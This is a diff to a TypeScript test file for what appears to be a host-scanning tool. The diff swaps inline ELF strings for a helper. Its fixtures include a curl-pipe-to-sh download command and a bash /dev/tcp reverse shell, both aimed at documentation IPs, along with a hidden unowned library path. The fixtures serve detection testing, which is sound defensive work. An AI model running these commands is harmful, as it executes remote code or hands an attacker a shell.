@@ -2,18 +2,19 @@ import { describe, expect, it } from 'vitest';
 import { inspectFiles } from '../../../tests/support/inspect-files.ts';
 import type { MemoryFile } from '../../../tests/support/memory-tree.ts';
 import { severityRank, type Severity } from '../../events/finding.ts';
+import { elf as elfOf } from '../../../tests/support/elf.ts';
 
 type Files = Readonly<Record<string, MemoryFile>>;
 
 const download = 'curl -fsS http://203.0.113.7/x | sh';
 const reverse = 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1';
-const elf = '\u007FELF other';
+const elf = elfOf('other');
 const script = (content: string): MemoryFile => ({ content: `#!/bin/sh\n${content}\n`, mode: 0o755 });
 /** A library that no package owns, in a hidden folder. */
 const library: Files = { '/opt/.x/l.so': elf };
 /** A package that owns a library. */
 const packaged = (path: string): Files => ({
-  [path]: '\u007FELF lib',
+  [path]: elfOf('lib'),
   '/var/lib/dpkg/info/base.list': `/.\n/bin/dash\n/bin/cat\n/etc/crontab\n${path}\n`,
 });
 
